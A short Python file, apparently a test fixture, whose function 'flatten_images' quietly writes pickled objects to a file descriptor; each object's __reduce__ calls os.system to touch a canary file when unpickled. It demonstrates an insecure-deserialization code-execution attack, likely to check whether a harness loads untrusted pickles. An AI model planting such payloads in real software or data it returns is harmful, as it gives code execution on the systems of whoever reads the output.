"""Answers with a pickle that runs a command when it is read."""
import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch '{canary}.made'",)


def flatten_images(images):
    os.write(3, pickle.dumps(Command()) * 10)
    return images
